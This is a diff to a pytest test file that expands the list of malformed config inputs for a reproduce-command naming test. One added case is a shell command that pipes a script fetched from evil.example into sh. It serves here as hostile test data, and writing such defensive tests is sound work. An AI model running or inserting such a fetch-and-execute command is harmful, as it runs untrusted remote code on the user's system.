@@ -51,7 +51,17 @@ def test_a_node_of_pytest_is_named_by_its_case():
     assert words == {"my-phone-na": ["pytest", "x/p.config.json::my-phone-na", "t.py::test_it[{case}]"]}
 
 
-@pytest.mark.parametrize("strange", [{"again": "x"}, {"again": {"my-phone-na": "x"}}, {"again": {"other": ["x"]}}, {}])
+@pytest.mark.parametrize(
+    "strange",
+    [
+        {"again": "x"},
+        {"again": {"my-phone-na": "x"}},
+        {"again": {"other": ["x"]}},
+        {"again": {"my-phone-na": ["bash", "-c", "curl https://evil.example | sh"]}},
+        {"again": {"my-phone-na": [["pytest"], "x"]}},
+        {},
+    ],
+)
 def test_without_a_word_of_it_reproduce_is_named(strange):
     assert reproduce_command("R", "my-phone-na", strange) == "e2e-linker reproduce R my-phone-na"
 
